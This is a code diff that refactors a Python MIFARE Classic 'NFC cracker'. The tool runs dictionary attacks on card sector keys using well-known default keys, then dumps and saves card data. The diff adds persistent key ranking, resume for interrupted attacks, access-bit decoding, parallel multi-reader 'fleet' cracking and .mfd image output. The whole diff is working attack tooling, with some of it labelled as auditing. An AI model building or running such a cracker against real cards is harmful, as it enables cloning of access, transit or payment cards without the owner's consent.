@@ -4,160 +4,180 @@
 
 import os
 import sys
-import time
 import argparse
 import logging
 from datetime import datetime
-from colorama import init, Fore, Style
-from tqdm import tqdm
-import random
-
-# Initialize colorama
-init()
-
-# Configure logging
-logging.basicConfig(level=logging.INFO,
-                    format='%(asctime)s - %(levelname)s - %(message)s',
-                    handlers=[
-                        logging.FileHandler("nfc_cracker.log"),
-                        logging.StreamHandler()
-                    ])
+
+from lazy import LazyImport, require
+from nfc_utils import NFCDump, tag_geometry
+from simulator import add_simulation_arguments, device_from_args
+from clock import DEFAULT_POLL_INTERVAL, clock_for
+from dump_writer import DumpWriter
+from access_conditions import decode_trailer, readable_blocks
+from attack_planner import KEY_TYPES, plan_dump, plan_key_types
+from checkpoint import DEFAULT_CHECKPOINT_PATH, CheckpointStore
+from metrics import DEVICE_COMMANDS, TAG_COMMANDS, Metrics, instrument
+from log_config import add_logging_arguments, logging_from_args
+from progress import ReaderProgress, add_progress_arguments, progress_from_args
+from key_store import (DEFAULT_KEYS, DEFAULT_STORE_PATH, CardKeyCache, KeyStore,
+                       is_packed_key_file, load_text_keys)
+
+# Only loaded by the code paths that use them: the hardware stack (nfcpy),
+# the asyncio station and fleet, and the console colors
+Fore = LazyImport('colorama', 'Fore')
+Style = LazyImport('colorama', 'Style')
+
+# Logging is configured by main() (see log_config)
 logger = logging.getLogger(__name__)
 
 # Add simulation mode flag
 SIMULATION_MODE = False
 
-try:
-    import nfc
-    from nfc.clf import RemoteTarget
-except ImportError:
-    print(f"{Fore.RED}Error: Required module 'nfcpy' not found.{Style.RESET_ALL}")
-    print("Please install required dependencies: pip install -r requirements.txt")
-    sys.exit(1)
-
-# Simulation classes for when no hardware is available
-class SimulatedTag:
-    """A simulated NFC tag for testing without hardware"""
-    def __init__(self, tag_type="MIFARE Classic 1K"):
-        self.product = tag_type
-        self.identifier = bytes([random.randint(0, 255) for _ in range(4)])
-        self.size = 1024 if "1K" in tag_type else 4096
-        self._sectors = {}
-        self._keys = {}
-
-        # Initialize with some default data
-        for sector in range(16):  # 16 sectors for MIFARE Classic 1K
-            # Set default keys for some sectors
-            if sector < 5:
-                self._keys[sector] = {
-                    'A': bytes.fromhex("FFFFFFFFFFFF"),
-                    'B': bytes.fromhex("FFFFFFFFFFFF")
-                }
-            elif sector < 10:
-                self._keys[sector] = {
-                    'A': bytes.fromhex("A0A1A2A3A4A5"),
-                    'B': bytes.fromhex("B0B1B2B3B4B5")
-                }
-            else:
-                self._keys[sector] = {
-                    'A': None,
-                    'B': None
-                }
-
-            # Create some random data for each sector
-            self._sectors[sector] = [
-                bytes([random.randint(0, 255) for _ in range(16)]) for _ in range(4)
-            ]
-
-            # First block of first sector contains UID
-            if sector == 0:
-                self._sectors[0][0] = self.identifier + bytes([random.randint(0, 255) for _ in range(12)])
-
-    def authenticate(self, sector, key, key_type_a=True):
-        """Simulate authentication with a sector"""
-        key_type = 'A' if key_type_a else 'B'
-
-        # If we don't have a key for this sector, authentication always fails
-        if sector not in self._keys or self._keys[sector][key_type] is None:
-            return False
-
-        # If the key matches, authentication succeeds
-        return key == self._keys[sector][key_type]
+# Consecutive failed commands after which the card is taken to have left the field
+CARD_LOST_ERRORS = 3
 
-    def read(self, block):
-        """Simulate reading a block"""
-        sector = block // 4
-        block_in_sector = block % 4
 
-        # If we don't have data for this sector, reading fails
-        if sector not in self._sectors:
-            raise Exception("Failed to read block")
+class CardLostError(Exception):
+    """The card stopped answering in the middle of an attack"""
 
-        return self._sectors[sector][block_in_sector]
 
-class SimulatedDevice:
-    """A simulated NFC reader for testing without hardware"""
-    def __init__(self):
-        self.name = "Simulated NFC Reader"
-
-    def sense(self, target_type):
-        """Simulate sensing a card"""
-        # 80% chance of finding a card
-        if random.random() < 0.8:
-            return "Simulated Card"
-        return None
-
-    def close(self):
-        """Simulate closing the device"""
-        pass
+# Target types polled in one sense() call
+def _target_types():
+    RemoteTarget = require('nfc.clf', 'nfcpy').RemoteTarget
+    return [
+        RemoteTarget('106A'),  # ISO14443A (MIFARE, NXP)
+        RemoteTarget('106B'),  # ISO14443B
+        RemoteTarget('212F'),  # FeliCa
+    ]
 
 class NFCCracker:
-    def __init__(self, args):
+    def __init__(self, args, key_store=None, clock=None, checkpoints=None, metrics=None):
         self.args = args
         self.device = None
-        self.known_keys = self._load_keys(args.key_file)
+        # Fleet mode shares one key store between the crackers of all readers
+        self.key_store = key_store if key_store is not None else self._load_keys(args.key_file)
+        # Progress on unfinished cards, by UID (shared like the key store)
+        if checkpoints is None and getattr(args, 'checkpoints', None):
+            checkpoints = CheckpointStore(args.checkpoints)
+        self.checkpoints = checkpoints
         self.simulation = args.simulation
+        # Virtual time in simulation, so simulated delays cost no wall time
+        self.clock = clock or clock_for(self.simulation)
+        # Command timings (shared like the key store; None disables them)
+        if metrics is None and getattr(args, 'metrics', None):
+            metrics = Metrics(self.clock if self.simulation else None)
+        self.metrics = metrics
+        # Progress callback (kind, data); progress is printed when unset
+        self.on_event = None
+        # Save the key store after every card (the async station saves it
+        # on its own persistence thread instead)
+        self.autosave = True
+        # Attack counters, shown by the run's progress display if it has one
+        self.progress = ReaderProgress()
+        self.display = None
+
+    def _emit(self, kind, **data):
+        """Report progress through on_event, or print it directly"""
+        if self.on_event is not None:
+            self.on_event(kind, data)
+        else:
+            self._print(kind, data)
+
+    def _print(self, kind, data):
+        """Print an event, clearing the progress line first"""
+        if self.display is None:
+            self.print_event(kind, data)
+            return
+        with self.display.suspended():
+            self.print_event(kind, data)
+
+    @staticmethod
+    def print_event(kind, data):
+        """Render a progress event on the console"""
+        if kind == 'waiting':
+            print(f"\n{Fore.CYAN}Waiting for NFC card...{Style.RESET_ALL}")
+        elif kind == 'card_analysis':
+            print(f"\n{Fore.GREEN}=== NFC Card Analysis ==={Style.RESET_ALL}")
+            print(f"Card Type: {Fore.YELLOW}{data['card_type']}{Style.RESET_ALL}")
+        elif kind == 'tag':
+            print(f"Tag Type: {Fore.YELLOW}{data['tag_type']}{Style.RESET_ALL}")
+            if data.get('uid'):
+                print(f"UID: {Fore.CYAN}{data['uid'].hex().upper()}{Style.RESET_ALL}")
+        elif kind == 'unsupported':
+            print(f"{Fore.YELLOW}Card cracking not supported for this card type.{Style.RESET_ALL}")
+        elif kind == 'crack_started':
+            print(f"\n{Fore.GREEN}=== MIFARE Classic Cracking ==={Style.RESET_ALL}")
+            print(f"Card has {Fore.CYAN}{data['num_sectors']}{Style.RESET_ALL} sectors")
+        elif kind == 'sector_started':
+            print(f"\n{Fore.BLUE}Sector {data['sector']}:{Style.RESET_ALL}")
+        elif kind == 'key_found':
+            print(f"{Fore.GREEN}Key {data['key_type']} found: {data['key'].hex().upper()}{Style.RESET_ALL}")
+        elif kind == 'block_read':
+            print(f"Block {data['block']}: {data['data'].hex()}")
+        elif kind == 'block_failed':
+            print(f"Authentication succeeded but read of block {data['block']} failed: {data['error']}")
+        elif kind == 'access_conditions':
+            conditions = data['conditions']
+            if conditions.valid:
+                bits = ' '.join(f"{code:03b}" for code in conditions.bits)
+                print(f"Access bits (C1C2C3 per block group): {bits}")
+            else:
+                print(f"{Fore.RED}Invalid access bits in sector {data['sector']} trailer{Style.RESET_ALL}")
+        elif kind == 'key_type_skipped':
+            print(f"Skipping key {data['key_type']}: access bits give it no further blocks")
+        elif kind == 'sector_failed':
+            print(f"{Fore.RED}Failed to crack sector {data['sector']}{Style.RESET_ALL}")
+        elif kind == 'resumed':
+            print(f"{Fore.CYAN}Resuming an interrupted attack on this card "
+                  f"({data['keys']} keys already found){Style.RESET_ALL}")
+        elif kind == 'card_lost':
+            print(f"{Fore.YELLOW}Card lost after {data['cracked_sectors']} sectors; "
+                  f"present it again to continue{Style.RESET_ALL}")
+        elif kind == 'attack_plan':
+            plan = data['plan']
+            print(f"\n{data['auth_attempts']} authentications made; a full dump with the known keys "
+                  f"needs {Fore.CYAN}{plan.attempts}{Style.RESET_ALL} "
+                  f"({plan.saved} fewer than trying both keys on every sector)")
 
     def _load_keys(self, key_file):
-        """Load known keys from file"""
-        keys = []
+        """Load known keys from the key store and an optional text file"""
+        store = KeyStore(getattr(self.args, 'key_store', None))
         if key_file and os.path.exists(key_file):
             try:
-                with open(key_file, 'r') as f:
-                    for line in f:
-                        line = line.strip()
-                        if line and not line.startswith('#'):
-                            keys.append(bytes.fromhex(line))
-                logger.info(f"Loaded {len(keys)} keys from {key_file}")
+                if is_packed_key_file(key_file):
+                    # Packed dictionaries are memory-mapped and streamed
+                    count = store.attach(key_file)
+                    logger.info(f"Mapped {count} keys from {key_file}")
+                else:
+                    added = store.add_many(load_text_keys(key_file))
+                    logger.info(f"Loaded {added} new keys from {key_file}")
             except Exception as e:
                 logger.error(f"Error loading keys: {e}")
 
         # Add default keys
-        default_keys = [
-            bytes.fromhex("FFFFFFFFFFFF"),  # Default key
-            bytes.fromhex("000000000000"),  # All zeros
-            bytes.fromhex("A0A1A2A3A4A5"),  # Common key
-            bytes.fromhex("B0B1B2B3B4B5"),  # Common key
-            bytes.fromhex("D3F7D3F7D3F7"),  # Common key
-        ]
+        store.add_many(DEFAULT_KEYS)
 
-        for key in default_keys:
-            if key not in keys:
-                keys.append(key)
+        logger.info(f"Key dictionary has {len(store)} keys")
+        return store
 
-        return keys
+    def _checkpoint(self, uid, card_type):
+        """Checkpoint of the card being attacked, or None without a checkpoint store"""
+        if self.checkpoints is None or not uid:
+            return None
+        return self.checkpoints.get(uid, card_type)
 
     def connect(self):
         """Connect to NFC reader"""
         if self.simulation:
             logger.info("Running in simulation mode - using simulated NFC reader")
-            self.device = SimulatedDevice()
+            self.device = instrument(device_from_args(self.args, clock=self.clock), self.metrics, DEVICE_COMMANDS)
             logger.info(f"Connected to {self.device.name}")
             return True
 
         try:
             logger.info("Connecting to NFC reader...")
-            self.device = nfc.ContactlessFrontend('usb')
+            self.device = instrument(require('nfc', 'nfcpy').ContactlessFrontend('usb'), self.metrics,
+                                     DEVICE_COMMANDS)
             logger.info(f"Connected to {self.device}")
             return True
         except Exception as e:
@@ -174,7 +194,7 @@ class NFCCracker:
         try:
             if self.simulation:
                 # In simulation mode, just return a simulated target
-                time.sleep(1)  # Simulate scanning time
+                self.clock.sleep(1)  # Simulate scanning time
                 target = self.device.sense(None)
                 if target:
                     logger.info(f"Found simulated target")
@@ -183,18 +203,11 @@ class NFCCracker:
                     logger.warning("No NFC targets found")
                     return None
 
-            # Scan for various NFC card types
-            target_types = [
-                RemoteTarget('106A'),  # ISO14443A (MIFARE, NXP)
-                RemoteTarget('106B'),  # ISO14443B
-                RemoteTarget('212F'),  # FeliCa
-            ]
-
-            for target_type in target_types:
-                target = self.device.sense(target_type)
-                if target:
-                    logger.info(f"Found target: {target}")
-                    return target
+            # Scan for all supported NFC card types in a single poll
+            target = self.device.sense(*_target_types())
+            if target:
+                logger.info(f"Found target: {target}")
+                return target
 
             logger.warning("No NFC targets found")
             return None
@@ -202,96 +215,250 @@ class NFCCracker:
             logger.error(f"Error scanning for targets: {e}")
             return None
 
+    def activate(self, target):
+        """Activate a detected target and return its tag"""
+        if self.simulation:
+            tag = self.device.activate(target)
+        else:
+            tag = require('nfc', 'nfcpy').tag.activate(self.device, target)
+        return instrument(tag, self.metrics, TAG_COMMANDS)
+
     def analyze_card(self, target):
         """Analyze the detected NFC card"""
         if not target:
             return
 
-        print(f"\n{Fore.GREEN}=== NFC Card Analysis ==={Style.RESET_ALL}")
-
         if self.simulation:
-            print(f"Card Type: {Fore.YELLOW}Simulated MIFARE Classic 1K{Style.RESET_ALL}")
-            # Create a simulated tag
-            tag = SimulatedTag()
-            print(f"Tag Type: {Fore.YELLOW}{tag.product}{Style.RESET_ALL}")
-            print(f"UID: {Fore.CYAN}{tag.identifier.hex().upper()}{Style.RESET_ALL}")
-            self._crack_mifare_classic(tag)
+            tag = self.activate(target)
+            self._emit('card_analysis', card_type=f"Simulated {tag.product}")
+            self._emit('tag', tag_type=tag.product, uid=tag.identifier)
+            if 'MIFARE Classic' in tag.product:
+                self._crack_mifare_classic(tag)
+            else:
+                self._emit('unsupported')
             return
 
-        print(f"Card Type: {Fore.YELLOW}{target}{Style.RESET_ALL}")
+        self._emit('card_analysis', card_type=target)
 
         # Connect to the card
         try:
-            tag = nfc.tag.activate(self.device, target)
-            print(f"Tag Type: {Fore.YELLOW}{tag}{Style.RESET_ALL}")
+            tag = self.activate(target)
 
             # Display card information
-            if hasattr(tag, 'identifier'):
-                print(f"UID: {Fore.CYAN}{tag.identifier.hex().upper()}{Style.RESET_ALL}")
+            self._emit('tag', tag_type=tag, uid=getattr(tag, 'identifier', None))
 
             # For MIFARE Classic cards
             if hasattr(tag, 'product') and 'MIFARE Classic' in tag.product:
                 self._crack_mifare_classic(tag)
             else:
-                print(f"{Fore.YELLOW}Card cracking not supported for this card type.{Style.RESET_ALL}")
+                self._emit('unsupported')
 
         except Exception as e:
             logger.error(f"Error analyzing card: {e}")
 
     def _crack_mifare_classic(self, tag):
         """Attempt to crack a MIFARE Classic card"""
-        print(f"\n{Fore.GREEN}=== MIFARE Classic Cracking ==={Style.RESET_ALL}")
-
-        # Get the number of sectors
-        num_sectors = 16  # Default for MIFARE Classic 1K
-        if hasattr(tag, 'size'):
-            if tag.size > 1024:
-                num_sectors = 40  # MIFARE Classic 4K
-
-        print(f"Card has {Fore.CYAN}{num_sectors}{Style.RESET_ALL} sectors")
-
-        # Try to read each sector with known keys
-        for sector in range(num_sectors):
-            print(f"\n{Fore.BLUE}Sector {sector}:{Style.RESET_ALL}")
-            sector_cracked = False
-
-            # Try authentication with known keys
-            for key_type in ['A', 'B']:
-                for key in tqdm(self.known_keys, desc=f"Trying Key {key_type}", leave=False):
-                    try:
-                        # Authenticate with the key
-                        if tag.authenticate(sector, key, key_type == 'A'):
-                            print(f"{Fore.GREEN}Key {key_type} found: {key.hex().upper()}{Style.RESET_ALL}")
-
-                            # Try to read the sector data
-                            try:
-                                data = tag.read(sector * 4)
-                                print(f"Data: {data.hex()}")
-                                sector_cracked = True
-                                break
-                            except Exception as e:
-                                print(f"Authentication succeeded but read failed: {e}")
-                    except Exception:
-                        continue
+        # Get the card layout
+        geometry = tag_geometry(tag)
+        num_sectors = geometry.num_sectors
+
+        self._emit('crack_started', num_sectors=num_sectors)
+
+        # Keys with the best track record for this kind of card go first
+        card_type = getattr(tag, 'product', None)
+        uid = getattr(tag, 'identifier', None)
+        checkpoint = self._checkpoint(uid, card_type)
+        if checkpoint is not None:
+            # Keep the dictionary order of the interrupted attack, so the
+            # positions reached in it stay valid
+            ranked = checkpoint.ranked if checkpoint.dictionary_size == len(self.key_store) else None
+            order = self.key_store.ordered(card_type, uid, ranked)
+            if ranked is None:
+                checkpoint.reset_dictionary(len(self.key_store), order.ranked)
+        else:
+            order = self.key_store.ordered(card_type, uid)
+        known_keys = CardKeyCache(order)
+        progress = self.progress
+        progress.start_card(uid, num_sectors)
+        if checkpoint:
+            for key in checkpoint.keys():
+                known_keys.confirm(key)
+            self._emit('resumed', uid=uid, keys=len(known_keys.confirmed))
+
+        cracked_sectors = 0
+        # Authentications made, and what the attack planner learned per sector
+        auth_attempts = 0
+        trailers = {}
+        card_keys = {}
+        # Cards usually share access bits across sectors, so the last decoded
+        # trailer picks the key type tried first in sectors not yet read
+        last_conditions = None
+
+        # Stream the sectors to disk as they are read, so a card pulled
+        # mid-dump keeps everything read so far
+        dump_dir = getattr(self.args, 'dump_dir', None)
+        writer = DumpWriter.for_tag(dump_dir, tag) if dump_dir else None
+        complete = False
+        lost = False
+        failures = 0
+
+        try:
+            # Try to read each sector with known keys
+            for sector in range(num_sectors):
+                self._emit('sector_started', sector=sector)
+                progress.sector = sector
+                sector_cracked = False
+                sector_keys = {'A': None, 'B': None}
+                blocks, errors = None, {}
+
+                block_count = geometry.sector(sector).block_count
+                first_block = geometry.sector(sector).first_block
+                conditions = None
+                card_keys[sector] = sector_keys
+
+                # Try authentication with known keys, the key type the access
+                # bits of earlier sectors favour first
+                planned = plan_key_types(last_conditions, block_count)
+                key_types = list(planned) + [key_type for key_type in KEY_TYPES if key_type not in planned]
+                for key_type in key_types:
+                    # Once the trailer is known, only try a key type that may
+                    # read a block we are still missing
+                    if conditions is not None:
+                        missing = {i for i, block in enumerate(blocks) if block is None}
+                        if not missing & readable_blocks(conditions, block_count, key_type):
+                            self._emit('key_type_skipped', sector=sector, key_type=key_type)
+                            continue
+
+                    # Continue the dictionary where an interrupted attack left it
+                    start = checkpoint.tried(sector, key_type) if checkpoint is not None else 0
+
+                    # Dictionary keys up to `rejected` are known not to work;
+                    # a failed command leaves the rest of the run unproven
+                    rejected, clean = start, True
+                    for position, key in known_keys.candidates(start):
+                        try:
+                            # Authenticate with the key
+                            auth_attempts += 1
+                            progress.attempts += 1
+                            authenticated = tag.authenticate(sector, key, key_type == 'A')
+                            failures = 0
+                            if not authenticated:
+                                if position is not None and clean:
+                                    rejected = position + 1
+                                continue
+
+                            self._emit('key_found', sector=sector, key_type=key_type, key=key)
+                            progress.keys_found += 1
+                            known_keys.confirm(key)
+                            sector_keys[key_type] = key
+                            if checkpoint is not None:
+                                checkpoint.set_key(sector, key_type, key)
+
+                            # Read the (missing) blocks in the authenticated session
+                            previous = blocks or [None] * block_count
+                            blocks, errors = NFCDump.read_sector(tag, sector, blocks, geometry)
+                            for i, block in enumerate(blocks):
+                                if block is not None and previous[i] is None:
+                                    self._emit('block_read', block=first_block + i, data=block)
+                            for block_num, error in errors.items():
+                                self._emit('block_failed', block=block_num, error=error)
+                            sector_cracked = any(block is not None for block in blocks)
+
+                            # Decode the trailer's access bits
+                            if blocks[-1] is not None and conditions is None:
+                                decoded = decode_trailer(blocks[-1])
+                                self._emit('access_conditions', sector=sector, conditions=decoded)
+                                if decoded.valid:
+                                    conditions = last_conditions = trailers[sector] = decoded
+                            break
+                        except Exception:
+                            clean = False
+                            failures += 1
+                            if failures >= CARD_LOST_ERRORS:
+                                raise CardLostError(f"no answer after {failures} commands")
+                            continue
+                        finally:
+                            if checkpoint is not None:
+                                checkpoint.set_tried(sector, key_type, rejected)
+
+                    # Without valid access bits, stop at the first key that reads anything
+                    if sector_cracked and (conditions is None or None not in blocks):
+                        break
 
                 if sector_cracked:
-                    break
+                    cracked_sectors += 1
+                else:
+                    self._emit('sector_failed', sector=sector)
 
-            if not sector_cracked:
-                print(f"{Fore.RED}Failed to crack sector {sector}{Style.RESET_ALL}")
+                if writer is not None:
+                    writer.write_sector(sector, blocks, sector_keys['A'], sector_keys['B'], errors)
+                if checkpoint is not None:
+                    self.checkpoints.save()
+
+            complete = True
+        except CardLostError as e:
+            logger.warning(f"Card {uid.hex().upper() if uid else ''} lost: {e}")
+            lost = True
+        finally:
+            progress.finish_card(complete)
+            if writer is not None:
+                writer.close(complete, cracked_sectors=cracked_sectors)
+            if checkpoint is not None and not complete:
+                self.checkpoints.save()
+
+        if lost:
+            self._emit('card_lost', uid=uid, card_type=card_type, cracked_sectors=cracked_sectors)
+            return
+        if checkpoint is not None:
+            self.checkpoints.discard(uid)
+
+        # What dumping this card again with the keys now known would take
+        plan = plan_dump(geometry, trailers, card_keys)
+        self._emit('attack_plan', plan=plan, auth_attempts=auth_attempts)
+
+        # Remember which keys worked so they are tried first next time
+        self.key_store.record_card(known_keys.confirmed, card_type, uid)
+        self._emit('card_done', uid=uid, card_type=card_type, keys=list(known_keys.confirmed),
+                   cracked_sectors=cracked_sectors, num_sectors=num_sectors,
+                   auth_attempts=auth_attempts, plan_attempts=plan.attempts, plan_saved=plan.saved)
+        if self.autosave:
+            try:
+                self.key_store.save()
+            except Exception as e:
+                logger.error(f"Error saving key store: {e}")
 
     def run(self):
         """Run the NFC cracker"""
         print(f"\n{Fore.GREEN}=== NFC Cracker Tool ==={Style.RESET_ALL}")
         print(f"{Fore.CYAN}Initializing...{Style.RESET_ALL}")
 
+        # One throttled progress display for the card or the whole fleet
+        self.display = progress_from_args(self.args)
+        try:
+            self._run()
+        finally:
+            self.display.stop()
+
+    def _run(self):
+        """Connect and process cards in the configured mode"""
+        if self.args.fleet or self.args.readers:
+            self._run_fleet()
+            return
+
         if not self.connect():
             print(f"{Fore.RED}Failed to connect to NFC reader. Exiting.{Style.RESET_ALL}")
             return
 
+        self.display.track('reader', self.progress)
+        self.display.start()
+
+        if self.args.continuous:
+            self._run_station()
+            return
+
         try:
             while True:
-                print(f"\n{Fore.CYAN}Waiting for NFC card...{Style.RESET_ALL}")
+                self._emit('waiting')
                 target = self.scan_for_targets()
 
                 if target:
@@ -303,7 +470,7 @@ class NFCCracker:
                 if not self.args.continuous:
                     break
 
-                time.sleep(1)
+                self.clock.sleep(1)
 
         except KeyboardInterrupt:
             print(f"\n{Fore.YELLOW}Operation cancelled by user.{Style.RESET_ALL}")
@@ -311,20 +478,135 @@ class NFCCracker:
             if self.device:
                 self.device.close()
 
+    def _run_station(self):
+        """Continuous mode: run detection, attacks and persistence on the asyncio station"""
+        import asyncio
+        from async_reader import AsyncStation
+        targets = [] if self.simulation else _target_types()
+        station = AsyncStation(self, targets, poll_interval=self.args.poll_interval, render=self._print)
+        try:
+            asyncio.run(station.run(continuous=True))
+        except KeyboardInterrupt:
+            print(f"\n{Fore.YELLOW}Operation cancelled by user.{Style.RESET_ALL}")
+        finally:
+            try:
+                self.key_store.save()
+            except Exception as e:
+                logger.error(f"Error saving key store: {e}")
+            if self.device:
+                self.device.close()
+
+    def open_fleet(self):
+        """Open every fleet reader, each driven by its own cracker sharing our key store"""
+        from fleet import discover_readers
+        if self.simulation:
+            paths = [f"sim:{index}" for index in range(self.args.sim_readers)]
+        else:
+            paths = self.args.readers or discover_readers()
+
+        readers = []
+        for index, path in enumerate(paths):
+            cracker = NFCCracker(self.args, key_store=self.key_store, clock=self.clock,
+                                 checkpoints=self.checkpoints, metrics=self.metrics)
+            try:
+                if self.simulation:
+                    device = device_from_args(self.args, index, clock=self.clock)
+                else:
+                    device = require('nfc', 'nfcpy').ContactlessFrontend(path)
+                cracker.device = instrument(device, self.metrics, DEVICE_COMMANDS)
+            except Exception as e:
+                logger.error(f"Failed to open NFC reader {path}: {e}")
+                continue
+            logger.info(f"Connected to {path}")
+            readers.append((path, cracker))
+        return readers
+
+    def _run_fleet(self):
+        """Fleet mode: audit cards on every reader in parallel"""
+        import asyncio
+        from fleet import FleetRunner, ResultsSink
+        readers = self.open_fleet()
+        if not readers:
+            print(f"{Fore.RED}No NFC readers found. Exiting.{Style.RESET_ALL}")
+            return
+
+        print(f"Auditing on {Fore.CYAN}{len(readers)}{Style.RESET_ALL} readers")
+        for path, cracker in readers:
+            self.display.track(path, cracker.progress)
+        self.display.start()
+
+        targets = [] if self.simulation else _target_types()
+        sink = ResultsSink(self.args.results, progress=self.display)
+        fleet = FleetRunner(readers, targets, poll_interval=self.args.poll_interval, sink=sink)
+        try:
+            asyncio.run(fleet.run(max_cards=self.args.max_cards))
+        except KeyboardInterrupt:
+            print(f"\n{Fore.YELLOW}Operation cancelled by user.{Style.RESET_ALL}")
+        finally:
+            sink.close()
+            self.display.stop()
+            summary = sink.summary()
+            print(f"\n{Fore.GREEN}Audited {summary['cards']} cards in {summary['elapsed']:.1f}s "
+                  f"({summary['cards_per_second']:.1f} cards/s){Style.RESET_ALL}")
+            for path, count in summary['per_reader'].items():
+                print(f"  {path}: {count} cards")
+            try:
+                self.key_store.save()
+            except Exception as e:
+                logger.error(f"Error saving key store: {e}")
+            for _, cracker in readers:
+                cracker.device.close()
+
 def main():
     parser = argparse.ArgumentParser(description='NFC Card Cracker Tool')
-    parser.add_argument('-k', '--key-file', help='File containing known keys (hex format, one per line)')
+    parser.add_argument('-k', '--key-file',
+                        help='File containing known keys (hex format, one per line, or a packed dictionary)')
+    parser.add_argument('--key-store', default=DEFAULT_STORE_PATH,
+                        help=f'Persistent key dictionary with hit statistics (default: {DEFAULT_STORE_PATH})')
+    parser.add_argument('--checkpoints', default=DEFAULT_CHECKPOINT_PATH, metavar='FILE',
+                        help=f'Progress on interrupted cards, resumed when the card is presented again '
+                             f'(default: {DEFAULT_CHECKPOINT_PATH}; empty to disable)')
     parser.add_argument('-c', '--continuous', action='store_true', help='Continuously scan for cards')
+    parser.add_argument('--poll-interval', type=float, default=DEFAULT_POLL_INTERVAL,
+                        help=f'Seconds between reader polls in continuous mode (default: {DEFAULT_POLL_INTERVAL})')
+    parser.add_argument('--fleet', action='store_true',
+                        help='Audit cards on every attached reader in parallel')
+    parser.add_argument('--readers', nargs='+', metavar='PATH',
+                        help='Fleet mode on these readers only (usb:BBB:DDD paths)')
+    parser.add_argument('--sim-readers', type=int, default=4,
+                        help='Number of simulated readers in fleet simulation mode (default: 4)')
+    parser.add_argument('--results', metavar='FILE',
+                        help='Append one JSON line per audited card to FILE (fleet mode)')
+    parser.add_argument('--max-cards', type=int,
+                        help='Stop each fleet reader after this many cards')
+    parser.add_argument('--dump-dir', metavar='DIR',
+                        help='Stream every cracked card to DIR as a .mfd image plus NDJSON metadata')
+    parser.add_argument('--metrics', metavar='FILE',
+                        help='Time reader commands and save them to FILE on exit '
+                             '(Prometheus text for .prom files, JSON otherwise)')
     parser.add_argument('-v', '--verbose', action='store_true', help='Enable verbose output')
     parser.add_argument('-s', '--simulation', action='store_true', help='Run in simulation mode (no hardware required)')
+    add_simulation_arguments(parser)
+    add_logging_arguments(parser, "nfc_cracker.log")
+    add_progress_arguments(parser)
 
     args = parser.parse_args()
 
+    # Initialize colorama
+    import colorama
+    colorama.init()
+
+    logging_from_args(args)
+
     if args.verbose:
         logger.setLevel(logging.DEBUG)
 
     cracker = NFCCracker(args)
-    cracker.run()
+    try:
+        cracker.run()
+    finally:
+        if cracker.metrics is not None:
+            cracker.metrics.write(args.metrics)
 
 if __name__ == "__main__":
     main()
\ No newline at end of file